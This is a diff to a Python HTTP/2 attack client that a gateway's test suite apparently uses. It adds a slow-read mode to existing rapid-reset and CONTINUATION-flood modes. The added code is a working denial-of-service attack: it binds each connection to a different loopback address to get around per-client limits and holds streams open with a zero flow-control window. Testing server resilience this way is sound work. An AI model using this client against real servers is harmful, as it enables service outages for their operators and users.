@@ -1,9 +1,10 @@
 #!/usr/bin/env python3
-"""HTTP/2 attack client for the gateway's tests: rapid reset (CVE-2023-44487) and CONTINUATION
-flood (CVE-2024-27316 family), over TLS with ALPN h2.
+"""HTTP/2 attack client for the gateway's tests: rapid reset (CVE-2023-44487), CONTINUATION
+flood (CVE-2024-27316 family) and slow read, over TLS with ALPN h2.
 
-Usage: h2_attack.py rapid-reset|continuation HOST PORT CA_FILE [--streams N] [--bytes N]
-                   [--repeat N] [--min-seconds S]
+Usage: h2_attack.py rapid-reset|continuation|slow-read HOST PORT CA_FILE [--streams N]
+                   [--bytes N] [--repeat N] [--min-seconds S] [--connections N]
+                   [--path P] [--seconds S]
 
 It attacks only the address it is given (the tests pass a loopback gateway) and prints one JSON
 line: what it sent before the server cut it off, and how the server did it.
@@ -11,6 +12,12 @@ line: what it sent before the server cut it off, and how the server did it.
                 socket takes them.
   continuation: one HEADERS frame without END_HEADERS, then CONTINUATION frames of 1 KiB header
                 fragments, never ending the header block, up to --bytes.
+  slow-read:    --connections connections at once, each from its own loopback address
+                (127.1.x.y, so that per-client limits do not stop it), each offering a
+                flow-control window of 0 and asking --streams answers of --bytes bytes from
+                --path (header x-answer-bytes), then keeping the connection alive with PINGs
+                for --seconds without ever opening the window. Reports per connection the
+                streams reset (by error code), the data received, and whether it was closed.
 Each attack connection stops at the first sign the server closed it; --repeat runs the attack
 on new connections, one after the other, until --min-seconds have passed (at most --repeat
 connections), so that it lasts long enough for the tests to probe the server meanwhile. The output is {"mode", "runs": [one report per connection]}.
@@ -27,6 +34,7 @@ import h2.config
 import h2.connection
 import h2.events
 import h2.exceptions
+import h2.settings
 import hpack
 
 
@@ -143,6 +151,80 @@ def rapid_reset(args):
     }
 
 
+def slow_read_one(args, index, results):
+    ctx = ssl.create_default_context(cafile=args.ca)
+    ctx.set_alpn_protocols(["h2"])
+    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    raw.bind((f"127.1.{index // 250}.{index % 250 + 1}", 0))
+    raw.settimeout(10)
+    raw.connect((args.host, args.port))
+    tls = ctx.wrap_socket(raw, server_hostname="localhost")
+    config = h2.config.H2Configuration(client_side=True)
+    conn = h2.connection.H2Connection(config)
+    conn.local_settings = h2.settings.Settings(
+        client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
+    )
+    conn.initiate_connection()
+    for _ in range(args.streams):
+        sid = conn.get_next_available_stream_id()
+        conn.send_headers(
+            sid,
+            [
+                (":method", "POST"),
+                (":scheme", "https"),
+                (":authority", "localhost"),
+                (":path", args.path),
+                ("x-answer-bytes", str(args.bytes)),
+            ],
+            end_stream=True,
+        )
+    tls.sendall(conn.data_to_send())
+    report = {"resets": {}, "data": 0, "closed": False, "ended": 0}
+    end = time.monotonic() + args.seconds
+    last_ping = 0.0
+    tls.settimeout(0.2)
+    while time.monotonic() < end:
+        if time.monotonic() - last_ping > 1:
+            conn.ping(b"slowread")
+            last_ping = time.monotonic()
+        try:
+            tls.sendall(conn.data_to_send())
+            data = tls.recv(65536)
+        except (socket.timeout, ssl.SSLWantReadError):
+            continue
+        except (ConnectionError, ssl.SSLError, OSError):
+            report["closed"] = True
+            break
+        if not data:
+            report["closed"] = True
+            break
+        for ev in conn.receive_data(data):
+            if isinstance(ev, h2.events.StreamReset):
+                code = str(int(ev.error_code))
+                report["resets"][code] = report["resets"].get(code, 0) + 1
+            elif isinstance(ev, h2.events.DataReceived):
+                report["data"] += len(ev.data)
+            elif isinstance(ev, h2.events.StreamEnded):
+                report["ended"] += 1
+    tls.close()
+    results[index] = report
+
+
+def slow_read(args):
+    import threading
+
+    results = [None] * args.connections
+    threads = [
+        threading.Thread(target=slow_read_one, args=(args, i, results))
+        for i in range(args.connections)
+    ]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    return {"mode": "slow-read", "connections": results}
+
+
 def frame(kind, flags, stream, payload):
     n = len(payload)
     return bytes([n >> 16 & 0xFF, n >> 8 & 0xFF, n & 0xFF, kind, flags]) + stream.to_bytes(4, "big") + payload
@@ -193,7 +275,7 @@ def continuation(args):
 
 def main():
     p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
-    p.add_argument("mode", choices=["rapid-reset", "continuation"])
+    p.add_argument("mode", choices=["rapid-reset", "continuation", "slow-read"])
     p.add_argument("host")
     p.add_argument("port", type=int)
     p.add_argument("ca")
@@ -201,7 +283,14 @@ def main():
     p.add_argument("--bytes", type=int, default=16 * 1024 * 1024)
     p.add_argument("--repeat", type=int, default=1)
     p.add_argument("--min-seconds", type=float, default=0.0)
+    p.add_argument("--connections", type=int, default=1)
+    p.add_argument("--path", default="/v1/chain/get_block")
+    p.add_argument("--seconds", type=float, default=10.0)
     args = p.parse_args()
+    if args.mode == "slow-read":
+        print(json.dumps(slow_read(args)))
+        sys.stdout.flush()
+        return
     attack = rapid_reset if args.mode == "rapid-reset" else continuation
     runs = []
     started = time.monotonic()
